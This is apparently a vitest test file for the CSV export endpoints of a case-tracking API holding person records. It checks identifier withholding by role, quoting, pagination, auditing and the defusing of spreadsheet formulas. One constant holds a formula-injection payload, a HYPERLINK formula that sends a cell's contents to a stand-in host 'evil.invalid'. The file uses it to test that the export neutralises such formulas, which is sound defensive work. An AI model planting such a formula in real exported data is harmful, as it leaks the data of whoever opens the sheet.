import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Application } from '../../src/app.js';
import { openCsv } from '../../src/csv/csvReader.js';
import { accountWithToken, adminApi } from '../helpers/access.js';
import { build } from '../helpers/factories.js';
import { DIALECTS, freshApplication } from '../helpers/stores.js';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- answers are checked field by field

const A_NUMBER = 'A-204-118-377';
const FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"open")';

/** A CSV answer read back by the repository's own reader, each row as an object by column name. */
async function parseCsv(body: string): Promise<{ header: string[]; rows: Array<Record<string, string>> }> {
  const file = await openCsv('answer.csv', {
    bytes: async function* () {
      yield Buffer.from(body, 'utf8');
    },
  });
  const rows: Array<Record<string, string>> = [];
  for await (const row of file.rows)
    rows.push(Object.fromEntries(file.header.map((name, index) => [name, row.values[index] ?? ''])));
  return { header: file.header, rows };
}

describe.each(DIALECTS)('CSV answers of the lists [%s]', (dialect) => {
  let application: Application;
  let api: FastifyInstance;
  let raw: FastifyInstance;
  let viewer: Record<string, string>;
  let viewerId: string;
  let personId: string;

  const get = async (url: string, headers: Record<string, string> = {}) => {
    const answer = await api.inject({ method: 'GET', url, headers });
    expect(answer.statusCode, answer.body).toBe(200);
    return answer;
  };
  const post = async (url: string, payload: Json) => {
    const answer = await api.inject({ method: 'POST', url, payload });
    expect(answer.statusCode, answer.body).toBe(201);
    return answer.json() as Json;
  };

  beforeAll(async () => {
    application = await freshApplication(dialect, () => new Date('2026-03-04T05:06:07.890Z'));
    ({ api, raw } = await adminApi(application));
    const account = await accountWithToken(application, 'viewer');
    viewer = account.headers;
    viewerId = account.userId;
    const source = await post(
      '/api/sources',
      build.source({ title: 'Informe, "anual" de Ñuñoa\nsegunda línea' }),
    );
    const record = await post(
      '/api/person-records',
      build.personRecord(source.id, {
        givenNames: '+Ñandú José',
        familyNames: FORMULA,
        identifiers: [{ kind: 'a_number', value: A_NUMBER }],
        nationalities: ['SLV', 'VEN'],
        note: 'told the reporter his A-number',
      }),
    );
    personId = record.personId as string;
    await post(
      '/api/person-records',
      build.personRecord(source.id, { givenNames: 'Otra', familyNames: 'Persona' }),
    );
    await post('/api/transfers', build.transfer(source.id, personId));
  });
  afterAll(async () => {
    await api.close();
    await application.close();
  });

  it('writes person records as a viewer sees them: identifiers withheld, formulas defused, accents kept', async () => {
    const answer = await get('/api/person-records?format=csv', viewer);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.headers.vary).toBe('Accept');
    expect(answer.body.startsWith('\uFEFF')).toBe(true);
    expect(answer.body).not.toContain(A_NUMBER);
    expect(answer.body).not.toContain('told the reporter');
    const { header, rows } = await parseCsv(answer.body);
    expect(header.slice(0, 2)).toEqual(['id', 'version']);
    const row = rows.find((item) => item.personId === personId) as Record<string, string>;
    expect(JSON.parse(row.identifiers as string)).toEqual([{ kind: 'a_number', value: 'withheld' }]);
    expect(JSON.parse(row.nationalities as string)).toEqual(['SLV', 'VEN']);
    expect(row.note).toBe('withheld');
    expect(row.birthDate).toBe('1995');
    expect(row.familyNames).toBe(`'${FORMULA}`);
    expect(row.givenNames).toBe("'+Ñandú José");
    expect(row['retracted']).toBe('');

    const editor = await get('/api/person-records?format=csv', { 'x-custodia-role': 'editor' });
    expect(editor.body).toContain(A_NUMBER);
  });

  it('quotes commas, quotes and line breaks (RFC 4180) and spreads objects into dotted columns', async () => {
    const answer = await get('/api/sources?format=csv');
    expect(answer.body).toContain('"Informe, ""anual"" de Ñuñoa\nsegunda línea"');
    const { rows } = await parseCsv(answer.body);
    expect(rows[0]?.title).toBe('Informe, "anual" de Ñuñoa\nsegunda línea');
    const retracted = await post('/api/sources', build.source({ title: 'Gone' }));
    const gone = await api.inject({
      method: 'POST',
      url: `/api/sources/${retracted.id}/retract`,
      payload: { version: retracted.version, reason: '-wrong source' },
    });
    expect(gone.statusCode, gone.body).toBe(200);
    const withRetracted = await parseCsv((await get('/api/sources?format=csv&includeRetracted=true')).body);
    expect(withRetracted.header).toEqual(expect.arrayContaining(['retracted.at', 'retracted.reason']));
    expect(withRetracted.header).not.toContain('retracted');
    const row = withRetracted.rows.find((item) => item.id === retracted.id);
    expect(row?.['retracted.reason']).toBe("'-wrong source");
  });

  it('answers the page asked for, with the next one in a Link header, also to Accept: text/csv', async () => {
    const first = await get('/api/person-records?limit=1&sort=created', { ...viewer, accept: 'text/csv' });
    expect(first.headers['content-type']).toMatch(/^text\/csv/);
    expect((await parseCsv(first.body)).rows).toHaveLength(1);
    const link = /^<(\/api\/person-records\?[^>]+)>; rel="next"$/.exec(String(first.headers.link));
    expect(link, String(first.headers.link)).not.toBeNull();
    const second = await get(link?.[1] as string, { ...viewer, accept: 'text/csv' });
    expect((await parseCsv(second.body)).rows).toHaveLength(1);
    expect(second.headers.link).toBeUndefined();
    expect(first.headers['content-disposition']).toBe(
      'attachment; filename="custodia-person-records_limit-1_sort-created_20260304T050607Z.csv"',
    );
    expect(first.headers['x-custodia-query']).toBe('limit=1&sort=created');
    expect(first.headers['x-custodia-exported-at']).toBe('2026-03-04T05:06:07.890Z');
    const json = await get('/api/person-records?limit=1', {
      ...viewer,
      accept: 'text/csv;q=0.1, application/json',
    });
    expect(json.json().items).toHaveLength(1);
  });

  it("writes a person's timeline and deadlines, one row per fact, as the JSON gives them to the role", async () => {
    const timeline = (await get(`/api/persons/${personId}/timeline`, viewer)).json() as Json;
    const csv = await get(`/api/persons/${personId}/timeline?format=csv`, viewer);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const { header, rows } = await parseCsv(csv.body);
    expect(header.slice(0, 4)).toEqual(['date', 'kind', 'type', 'entity.id']);
    expect(rows.map((row) => row['entity.id'])).toEqual(
      (timeline.items as Json[]).map((item) => item.entity.id),
    );
    expect(csv.body).not.toContain(A_NUMBER);
    const deadlines = await get(`/api/persons/${personId}/deadlines`, { ...viewer, accept: 'text/csv' });
    expect((await parseCsv(deadlines.body)).header.slice(0, 4)).toEqual([
      'clock',
      'open',
      'startsAt',
      'endsAt',
    ]);
    expect(
      (await api.inject({ method: 'GET', url: `/api/persons/${personId}/timeline?format=xml` })).statusCode,
    ).toBe(400);
  });

  it('audits a CSV read of person data as it audits JSON', async () => {
    await get(`/api/transfers?personId=${personId}&format=csv`, viewer);
    const audit = await get(`/api/audit?personId=${personId}&action=read`);
    const reads = (audit.json().items as Json[]).filter((entry) => entry.actorId === viewerId);
    expect(reads).toContainEqual(
      expect.objectContaining({ entityId: personId, after: { route: 'GET /api/transfers' } }),
    );
  });

  it('answers findings, matches and person search as CSV, role-aware', async () => {
    const findings = await parseCsv((await get('/api/findings?format=csv', viewer)).body);
    expect(findings.header.slice(0, 3)).toEqual(['transferId', 'personId', 'ruleId']);
    expect(findings.rows.length).toBeGreaterThan(0);
    const matches = await parseCsv((await get('/api/matches?format=csv', viewer)).body);
    expect(matches.header.slice(0, 4)).toEqual(['id', 'version', 'status', 'probability']);
    const search = await get('/api/search/persons?q=Nandu%20Jose&format=csv', viewer);
    expect(search.body).not.toContain(A_NUMBER);
    expect(search.headers['x-custodia-incomplete']).toBe('false');
    const hits = await parseCsv(search.body);
    const hit = hits.rows.find((row) => row['person.id'] === personId);
    expect(hit?.['record.familyNames']).toBe(`'${FORMULA}`);
    expect(JSON.parse(hit?.['record.identifiers'] as string)).toEqual([
      { kind: 'a_number', value: 'withheld' },
    ]);
  });

  it('refuses what JSON refuses, answering the error as JSON', async () => {
    const publicList = await raw.inject({ method: 'GET', url: '/api/person-records?format=csv' });
    expect(publicList.statusCode).toBe(401);
    expect(publicList.headers['content-type']).toMatch(/^application\/json/);
    const badCursor = await api.inject({ method: 'GET', url: '/api/person-records?format=csv&cursor=bogus' });
    expect(badCursor.statusCode).toBe(400);
    expect(badCursor.headers['content-type']).toMatch(/^application\/json/);
    expect(badCursor.headers['content-disposition']).toBeUndefined();
    const badFormat = await api.inject({ method: 'GET', url: '/api/findings?format=xlsx' });
    expect(badFormat.statusCode).toBe(400);
    const agreements = await raw.inject({ method: 'GET', url: '/api/agreements?format=csv' });
    expect(agreements.statusCode).toBe(200);
    expect(agreements.headers['content-type']).toMatch(/^text\/csv/);
  });
});
